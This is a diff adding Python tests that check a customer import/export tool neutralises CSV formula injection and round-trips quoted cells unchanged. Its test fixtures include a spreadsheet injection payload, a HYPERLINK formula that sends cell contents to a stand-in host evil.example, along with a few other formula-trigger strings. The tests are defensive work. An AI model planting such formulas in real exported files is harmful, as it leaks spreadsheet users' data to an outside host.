@@ -324,7 +324,10 @@ def test_csv_export_has_the_import_columns(app, tmp_path):
     header, first = out.getvalue().split("\n", 1)
     assert tuple(header.split(",")) == COLUMNS
     customer_id = app.run(lambda: Customer.all().values_list("id", flat=True))[0]
-    assert first.startswith(f"{to_global_id('Customer', customer_id)},,Li Lei,PERSON,li@example.com,+86 138 0000 0001,")
+    # A leading + would start a formula in a spreadsheet: the cell is quoted as text.
+    assert first.startswith(
+        f"{to_global_id('Customer', customer_id)},,Li Lei,PERSON,li@example.com,'+86 138 0000 0001,"
+    )
     assert "vip;wholesale,agent@example.com," in first
 
 
@@ -399,3 +402,133 @@ def test_a_row_the_database_refuses_is_reported_and_the_rest_of_its_batch_writte
     assert report.errors[0].message.startswith("the database refused the row")
     assert sorted(app.run(customers_by_name)) == [f"C{i}" for i in range(8) if i != 5]
     assert len(app.run(tag_rows)) == 7
+
+
+# --------------------------------------------------------------------------- safe in a spreadsheet
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=cmd",
+    "\r=cmd",
+    "＝1+1",
+    "'=already quoted",
+    "plain 'text'",
+]
+
+
+def test_csv_export_neutralises_formula_cells_and_imports_back_unchanged(app, tmp_path):
+    rows = [
+        {"name": formula, "phone": "+86 138 0000 0000", "industry": "=1+1", "region": "@here"} for formula in FORMULAS
+    ]
+    source = "\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n"
+    # One phone number for every row: duplicates, created on purpose.
+    imported = run_import(app, write(tmp_path, "source.jsonl", source), allow_duplicates=True)
+    assert imported.imported == len(FORMULAS)
+
+    before = io.StringIO()
+    run_export(app, before, format="jsonl")
+    stored = [json.loads(line) for line in before.getvalue().splitlines()]
+    out = io.StringIO()
+    run_export(app, out)
+    import csv
+
+    cells = [cell for record in list(csv.reader(io.StringIO(out.getvalue())))[1:] for cell in record]
+    dangerous = [c for c in cells if c and c[0] in "=+-@\t\r＝＋－＠"]
+    assert dangerous == []
+    assert '\'=HYPERLINK("https://evil.example/?"&A1,"open")' in cells
+    assert "''=already quoted" in cells and "plain 'text'" in cells
+
+    # Imported again, the quoted cells read back as they were: nothing changes.
+    report = run_import(app, write(tmp_path, "export.csv", out.getvalue()), on_conflict="update")
+    assert (report.errors, report.updated, report.unchanged) == ([], 0, len(FORMULAS))
+    exact = io.StringIO()
+    run_export(app, exact, format="jsonl")
+    records = [json.loads(line) for line in exact.getvalue().splitlines()]
+    # JSON Lines is exact.
+    assert records == stored
+    assert '=HYPERLINK("https://evil.example/?"&A1,"open")' in [r["name"] for r in stored]
+    assert {r["phone"] for r in records} == {"+86 138 0000 0000"}
+    assert {(r["industry"], r["region"]) for r in records} == {("=1+1", "@here")}
+
+
+def _customers_jsonl(capsys) -> list[dict]:
+    from kehu.cli.main import main as kehu_main
+
+    capsys.readouterr()
+    assert kehu_main(["export", "customers", "--format", "jsonl"]) == 0
+    return [_without_ids(json.loads(line)) for line in capsys.readouterr().out.splitlines()]
+
+
+def test_a_phone_with_a_plus_survives_export_and_import_through_the_commands(tmp_path, db_url, capsys, monkeypatch):
+    """+86 … is quoted in the CSV ('+86 …, no formula), and the import takes the
+    quote off again: the same customer, unchanged, whichever way it comes back."""
+    from kehu.cli.main import main as kehu_main
+
+    config = tmp_path / "plugins.toml"
+    config.write_text(f'[kehu]\ndatabase_url = "{db_url}"\n', encoding="utf-8")
+    monkeypatch.setenv("KEHU_CONFIG", str(config))
+    assert kehu_main(["migrate"]) == 0
+    rows = [
+        {"name": "王芳", "phone": "+86 138 0013 8000", "region": "-", "industry": "@home"},
+        {"name": "=1+1", "phone": None, "region": "'+quoted", "industry": None},
+    ]
+    source = write(tmp_path, "source.jsonl", "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows))
+    assert kehu_main(["import", "customers", str(source)]) == 0
+    before = _customers_jsonl(capsys)
+    assert before[0]["phone"] == "+86 138 0013 8000"
+
+    exported = tmp_path / "customers.csv"
+    assert kehu_main(["export", "customers", "--output", str(exported)]) == 0
+    text = exported.read_text(encoding="utf-8")
+    assert "'+86 138 0013 8000" in text and "\n+86" not in text and ",+86" not in text
+    assert kehu_main(["import", "customers", str(exported), "--on-conflict", "update"]) == 0
+    assert "2 unchanged" in capsys.readouterr().out
+    assert _customers_jsonl(capsys) == before
+
+    # Opened in a spreadsheet and saved as a workbook, the quote is text in the cell.
+    import csv
+
+    from openpyxl import Workbook
+
+    book = Workbook()
+    for record in csv.reader(io.StringIO(text)):
+        book.active.append(record)
+    saved = tmp_path / "customers.xlsx"
+    book.save(saved)
+    assert kehu_main(["import", "customers", str(saved), "--on-conflict", "update"]) == 0
+    assert "2 unchanged" in capsys.readouterr().out
+    assert _customers_jsonl(capsys) == before
+
+
+def test_the_error_report_of_an_import_neutralises_what_the_file_held(app, tmp_path):
+    path = write(tmp_path, "bad.csv", HEADER + "=1+1,ALIEN,,,,,,,,\n")
+    report = run_import(app, path)
+    assert report.errors
+    out = io.StringIO()
+    report.write_errors(out)
+    import csv
+
+    cells = [cell for record in csv.reader(io.StringIO(out.getvalue())) for cell in record]
+    assert not [c for c in cells if c and c[0] in "=+-@\t\r"]
+
+
+def test_every_csv_the_project_writes_goes_through_the_safe_writer():
+    """A CSV written with a bare csv.writer would not be neutralised: none exists."""
+    import pathlib
+    import re
+
+    root = pathlib.Path(__file__).resolve().parent.parent
+    offenders = []
+    for folder in ("core", "schema", "plugins", "examples"):
+        for path in (root / folder).rglob("*.py"):
+            if path.name == "csvsafe.py":
+                continue
+            text = path.read_text(encoding="utf-8")
+            if re.search(r"\bcsv\.(writer|DictWriter)\s*\(", text) or re.search(
+                r"from csv import .*\b(writer|DictWriter)\b", text
+            ):
+                offenders.append(str(path.relative_to(root)))
+    assert offenders == []
